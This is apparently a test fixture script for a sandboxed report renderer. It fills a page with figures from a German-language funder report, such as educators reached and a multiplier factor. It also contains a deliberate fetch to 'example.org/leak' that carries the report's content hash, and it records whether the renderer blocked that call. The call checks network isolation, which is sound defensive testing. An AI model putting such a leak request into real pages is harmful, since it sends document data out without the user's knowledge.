// Reads window.__MINTQ_REPORT__ (injected before this runs) and prints some of its numbers.
const report = window.__MINTQ_REPORT__;
const main = document.getElementById('report');
const de = new Intl.NumberFormat('de-DE', { maximumFractionDigits: 2 });
const show = (value) => (value === null ? '•' : de.format(value));
const { content, meta } = report;
main.innerHTML = [
  `<h1>${content.funder.name}</h1>`,
  `<p>Zeitraum ${content.period.from} bis ${content.period.to}</p>`,
  `<p class="reach">Erreichte Pädagog:innen ${show(content.reach.educatorsReached)}</p>`,
  `<p>Multiplikatorfaktor ${show(content.reach.multiplierFactor)}</p>`,
  `<p>Fingerabdruck ${meta.contentHash}</p>`,
].join('');
// Must be aborted by the renderer: the page may not reach the network.
fetch(`https://example.org/leak?hash=${meta.contentHash}`)
  .then(() => {
    document.body.dataset.network = 'reached';
  })
  .catch(() => {
    document.body.dataset.network = 'blocked';
  })
  .finally(() => {
    const p = document.createElement('p');
    p.textContent = `Netzwerk ${document.body.dataset.network}`;
    main.appendChild(p);
    document.body.dataset.ready = 'true';
  });
